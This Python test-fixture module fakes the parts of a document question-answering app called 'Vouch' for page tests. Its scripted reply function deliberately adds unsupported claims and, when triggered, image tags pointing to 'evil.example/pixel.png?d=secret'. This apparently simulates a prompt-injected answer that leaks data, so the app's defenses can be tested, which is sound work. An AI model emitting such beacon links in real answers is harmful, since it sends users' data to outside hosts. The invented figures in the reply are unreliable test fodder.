"""A Vouch without engines, embedders and processes: real conversations, answers and readers; documents in memory."""

from __future__ import annotations

import hashlib
import importlib
import itertools
import re
import time
from collections.abc import Callable, Generator, Sequence
from dataclasses import dataclass, field, replace
from functools import cached_property, partial
from pathlib import Path
from typing import Any, BinaryIO

from modules.adapters.page_images import PageImages
from modules.adapters.readers import FileReader, Limits
from modules.adapters.scripted import Scripted
from modules.core.engines import EngineStatus, InstalledModel, Offer, RunningModel
from modules.core.errors import DocumentError, Encrypted, ModelMissing, NotFound
from modules.core.jobs import Job
from modules.core.text import content_words
from modules.core.types import (
    ANYTHING,
    ChatModel,
    Chunk,
    Document,
    DocumentState,
    Filter,
    Hit,
    Message,
    Note,
    Opened,
    Page,
    Progress,
    Scope,
)
from modules.domains import discover
from modules.safety.finding import Finder
from modules.safety.identifiers import Entity
from modules.services.answers import AnswerDesk, Answers
from modules.services.grids import Grids
from modules.services.identities import KIND as IDENTITIES
from modules.services.identities import Identities, Shelf
from modules.services.reports import ReportDesk, Reports
from modules.settings import Settings
from modules.store.conversations import Conversations
from modules.store.database import Database
from modules.store.documents import Documents
from modules.store.learning import Learning
from modules.store.papers import Papers
from modules.store.preferences import Preferences
from modules.store.reports import ReportStore
from modules.store.storage import StorageUse
from modules.store.templates import Templates, delete_all

_IMAGES = PageImages(Limits())


class InProcess:
    """Calls a function by its path, as the bounded child does, in this process."""

    def call(self, function: str, *arguments: Any) -> Any:
        module, _, name = function.partition(":")
        return getattr(importlib.import_module(module), name)(*arguments)


@dataclass
class FakeUpload:
    id: str
    name: str
    state: str
    progress: Progress = field(default_factory=lambda: Progress(0, 0, ""))
    seconds_left: float | None = None
    document_id: str | None = None
    message: str = ""
    hint: str = ""
    needs: str = ""


class FakeLibrary:
    """Reads what it is given at once, in this process. Of its documents, the database has the ids."""

    def __init__(self, folder: Path, scope: Scope, store: Documents) -> None:
        self._folder = folder
        self._store_of_ids = store
        self._domain = discover()[scope.workspace]
        self._documents: dict[str, Document] = {}
        self._pages: dict[tuple[str, int], Page] = {}
        self._chunks: list[Chunk] = []
        self._uploads: dict[str, FakeUpload] = {}
        self._numbers = itertools.count(1)

    def documents(self) -> list[Document]:
        return list(self._documents.values())

    def document(self, document_id: str) -> Document:
        if document_id not in self._documents:
            raise NotFound("This document is not here.")
        return self._documents[document_id]

    def page(self, document_id: str, number: int) -> Page:
        if (document_id, number) not in self._pages:
            raise NotFound("This page is not here.")
        return self._pages[document_id, number]

    def pages(self, document_id: str) -> list[Page]:
        return [self.page(document_id, number) for number in range(1, self.document(document_id).pages + 1)]

    def file(self, document_id: str) -> Path:
        return self._folder / document_id

    def page_image(self, document_id: str, number: int, *, width: int = 900) -> bytes:
        return _IMAGES.render(self.file(document_id), self.document(document_id).media_type, number, width=width)

    def uploads(self) -> list[FakeUpload]:
        return list(self._uploads.values())

    def put(self, upload: FakeUpload) -> None:
        """Show an upload in any state, for tests of the list."""
        self._uploads[upload.id] = upload

    def add(self, name: str, source: BinaryIO) -> FakeUpload:
        content = source.read()
        document_id = hashlib.sha256(content).hexdigest()
        upload = FakeUpload(f"u{next(self._numbers)}", name, "done", document_id=document_id)
        self._uploads[upload.id] = upload
        self._folder.mkdir(parents=True, exist_ok=True)
        self.file(document_id).write_bytes(content)
        if document_id in self._documents:
            upload.message = "This file is already here."
        elif any(document.name == name for document in self.documents()):
            upload.state, upload.needs = "waiting", "choice"
            upload.message = "A document of this name is already here, with other contents."
        else:
            self._read(upload, "")
        return upload

    def retry(self, upload_id: str, password: str = "") -> None:
        self._read(self._uploads[upload_id], password)

    def resolve(self, upload_id: str, choice: str) -> None:
        upload = self._uploads[upload_id]
        if choice == "replace":
            for document in self.documents():
                if document.name == upload.name:
                    self.delete(document.id)
        else:
            upload.name = f"{upload.name} (2)"
        self._read(upload, "")

    def cancel(self, upload_id: str) -> None:
        self._uploads[upload_id].state = "cancelled"

    def dismiss(self, upload_id: str) -> None:
        del self._uploads[upload_id]

    def delete(self, document_id: str) -> None:
        self.document(document_id)
        del self._documents[document_id]
        self._store_of_ids.abandon(document_id)
        self._chunks = [chunk for chunk in self._chunks if chunk.document_id != document_id]
        self._pages = {key: page for key, page in self._pages.items() if key[0] != document_id}

    def rename(self, document_id: str, name: str) -> None:
        self._documents[document_id] = replace(self.document(document_id), name=name)

    def set_tags(self, document_id: str, tags: tuple[str, ...]) -> None:
        self._documents[document_id] = replace(self.document(document_id), tags=tags)

    def storage(self) -> StorageUse:
        documents = self.documents()
        size = sum(document.size for document in documents)
        return StorageUse(len(documents), len(self._pages), len(self._chunks), size, 0, 0, 0)

    def taken(self, document_id: str) -> int:
        return self._documents[document_id].size

    def reindexing(self) -> Progress | None:
        return None

    def search(self, query: str, k: int, where: Filter = ANYTHING) -> list[Hit]:
        wanted = {word.stem for word in content_words(query)}
        hits = [
            Hit(chunk, len(wanted & {word.stem for word in content_words(chunk.text)}) / max(1, len(wanted)))
            for chunk in self._chunks
            if not where.documents or chunk.document_id in where.documents
        ]
        return sorted((hit for hit in hits if hit.score), key=lambda hit: -hit.score)[:k]

    def _read(self, upload: FakeUpload, password: str) -> None:
        document_id = upload.document_id or ""
        path = self.file(document_id)
        media_type, notes, pages = "", [], []
        try:
            for event in FileReader(Limits()).read(path, password=password):
                if isinstance(event, Opened):
                    media_type = event.media_type
                elif isinstance(event, Note):
                    notes.append(event.text)
                else:
                    pages.append(event)
        except Encrypted as error:
            upload.state, upload.needs, upload.message, upload.hint = "waiting", "password", error.message, error.hint
            return
        except DocumentError as error:
            upload.state, upload.message, upload.hint = "failed", error.message, error.hint
            return
        self._store(
            Document(
                document_id,
                upload.name,
                media_type,
                path.stat().st_size,
                len(pages),
                0,
                DocumentState.READY,
                1.8e9,
                tuple(notes),
            ),
            pages,
        )
        upload.state = "done"

    def _store(self, document: Document, pages: Sequence[Page]) -> None:
        by_number = {page.number: page for page in pages}
        for ordinal, span in enumerate(self._domain.splitter.split(pages)):
            text = by_number[span.page].text[span.start : span.end]
            self._chunks.append(
                Chunk(
                    f"{document.id[:32]}-{ordinal}",
                    document.id,
                    document.name,
                    ordinal,
                    span.page,
                    span.start,
                    span.end,
                    span.section,
                    span.header,
                    text,
                )
            )
        self._pages.update({(document.id, page.number): page for page in pages})
        self._documents[document.id] = document
        self._store_of_ids.begin(replace(document, name=document.id))


EVIL = "http://evil.example/pixel.png?d=secret"


WIDE = (
    "| Obligation | Responsible party | Commencement date | Consequence of a delay | Amount |\n|---|---|---|---|---|\n"
    "| Confidentiality | Subcontractors | 2026-03-01 | Indemnification and termination | (1,234,567.89) |\n\n"
    "```\ndef due(amount):\n\n    return amount\n```\n"
)


def quoting(messages: Sequence[Message]) -> str:
    """Reply with the first words of the first passage, what nothing supports, and what must not be fetched.

    A question that asks for a table gets one that is wider than a phone, and lines of code.
    """
    if "as a table" in messages[-1].content:
        return WIDE
    evidence = "\n".join(message.content for message in messages if message.role == "user")
    passage = re.split(r"\[1\][^\n]*\n", evidence, maxsplit=1)[-1]
    found = [one.strip() for one in re.split(r"(?<=[.;:])\s", passage) if len(one.split()) > 7 and "[" not in one]
    first = found[0].rstrip(".;:") if found else "The passage says so"
    attack = f" ![x]({EVIL}) [here]({EVIL}) <img src={EVIL}>" if "pixel" in evidence else ""
    return f"{first} [1].\n\n- It costs **4711 dollars** [2].\n- Dragons guard the mountain of the west.{attack}"


class FakeEngines:
    """One engine, which is scripted, and a server that is there when `server` says so."""

    def __init__(self, model: Scripted) -> None:
        self.model = model
        self.server = False
        self.chosen: list[tuple[str, str]] = []
        self.jobs: dict[str, Job[None]] = {}

    def status(self) -> list[EngineStatus]:
        here = (
            ("Runs at http://127.0.0.1:11434 and has 1 model.", "")
            if self.server
            else ("No server answers at http://127.0.0.1:11434.", "Install Ollama and start it: this page finds it.")
        )
        return [
            EngineStatus("ollama", "Ollama", self.server, *here, models=("phi4-mini",) if self.server else ()),
            EngineStatus("scripted", "Scripted", True, "Says what a test wrote down.", models=("scripted",)),
        ]

    def current(self, _owner: str) -> Scripted:
        return self.model

    def choose(self, _owner: str, engine: str, model: str) -> None:
        self.chosen.append((engine, model))

    def running(self) -> list[RunningModel]:
        return [RunningModel("phi4-mini", 3_400_000_000, 0, 8_192, time.time() + 240)]

    def installed(self) -> list[InstalledModel]:
        return [InstalledModel("phi4-mini", 2_500_000_000, "3.8B")]

    def offers(self) -> list[Offer]:
        return [
            Offer("phi4", 9_100_000_000, 12_000_000_000, False, False, False, "The model that Vouch is made for."),
            Offer("phi4-mini", 2_500_000_000, 4_000_000_000, True, True, self.server, "Small, quick and good enough."),
        ]

    def pull(self, model: str) -> Job[None]:
        self.jobs[model] = Job(_pulling())
        return self.jobs[model]

    def pulling(self, model: str) -> Job[None] | None:
        return self.jobs.get(model)

    def delete(self, model: str) -> None:
        raise ModelMissing(f"The server does not have {model}.", "Refresh the page.")


def _pulling() -> Generator[Progress, None, None]:
    for done in range(100):
        yield Progress(done * 91_000_000, 9_100_000_000, "Fetching")
        time.sleep(0.2)


class NoEntities:
    """A model of named entities that knows none: the rules find what the tests need."""

    def find(self, text: str) -> list[Entity]:  # noqa: ARG002
        return []


class FakeEmbedderChoice:
    """Indexes again as soon as another embedder is chosen, and never ends."""

    def __init__(self) -> None:
        self._progress: Progress | None = None

    def names(self) -> list[str]:
        return ["MiniLM", "nomic-embed-text"]

    def chosen(self) -> str:
        return "MiniLM"

    def choose(self, name: str) -> None:
        self._progress = Progress(3, 10, f"Indexing again with {name}")

    def problem(self) -> None:
        return None

    def reindexing(self) -> Progress | None:
        return self._progress


class FakeVouch:
    """Has the parts that the pages use."""

    def __init__(
        self, folder: Path, *, reply: Callable[[Sequence[Message]], str] = quoting, pause: float = 0.0
    ) -> None:
        self.domains = discover()
        self.scripted = Scripted(reply, pause=pause)
        self.scripted._card = replace(self.scripted.card, small=True)
        self.engines = FakeEngines(self.scripted)
        self.settings = Settings(runtime=folder)
        self.embedder = FakeEmbedderChoice()
        self._folder = folder
        self._database = Database(folder)
        self._libraries: dict[Scope, FakeLibrary] = {}
        self._finder = Finder(NoEntities())
        self._identities: dict[Scope, Identities] = {}
        self._desk = AnswerDesk()
        self._reports = ReportDesk()

    def start(self) -> None:
        pass

    def warm_up(self) -> None:
        pass

    def close(self) -> None:
        self._desk.close()
        self._reports.close()
        self._database.close()

    def library(self, scope: Scope) -> FakeLibrary:
        folder, store = self._folder / "fake" / scope.workspace, Documents(self._database, scope)
        return self._libraries.setdefault(scope, FakeLibrary(folder, scope, store))

    def conversations(self, scope: Scope) -> Conversations:
        return Conversations(self._database, scope)

    def preferences(self, owner: str) -> Preferences:
        return Preferences(self._database, owner)

    def reports(self, scope: Scope) -> Reports:
        return Reports(ReportStore(self._database, scope), scope, self._reports)

    def templates(self, scope: Scope, kind: str) -> Templates:
        return Templates(self._database, scope, kind)

    def papers(self, scope: Scope) -> Papers:
        return Papers(self._database, scope)

    def learning(self, scope: Scope) -> Learning:
        return Learning(self._database, scope)

    @cached_property
    def bounded(self) -> InProcess:
        return InProcess()

    def identities(self, scope: Scope) -> Identities:
        library, kept = self.library(scope), self.templates(scope, IDENTITIES)
        shelf = Shelf(library.documents, library.pages)
        if scope not in self._identities:
            local = partial(self.hides_locally, scope.owner)
            self._identities[scope] = Identities(self._finder, kept, shelf, self.reports(scope), local=local)
        return self._identities[scope]

    def model(self, scope: Scope) -> ChatModel:
        model, domain = self.engines.current(scope.owner), self.domains[scope.workspace]
        return self.identities(scope).before(model, domain.instructions) if domain.protects_identities else model

    def hides_locally(self, owner: str) -> bool:
        return bool(self.preferences(owner).get("hide identities locally", False))

    def hide_locally(self, owner: str, wanted: bool) -> None:
        self.preferences(owner).set("hide identities locally", wanted)

    def forget_work(self, scope: Scope) -> None:
        self.reports(scope).delete_all()
        self.papers(scope).delete_all()
        self.learning(scope).delete_all()
        delete_all(self._database, scope)
        self._identities.pop(scope, None)

    def grids(self, scope: Scope) -> Grids:
        library = self.library(scope)
        return Grids(
            self.reports(scope),
            self.domains[scope.workspace],
            model=lambda: self.model(scope),
            retriever=library,
            pages=library,
        )

    def answers(self, scope: Scope) -> Answers:
        library = self.library(scope)
        return Answers(
            self.conversations(scope),
            scope,
            self.domains[scope.workspace],
            model=lambda: self.model(scope),
            retriever=library,
            pages=library,
            unread=tuple,
            desk=self._desk,
        )
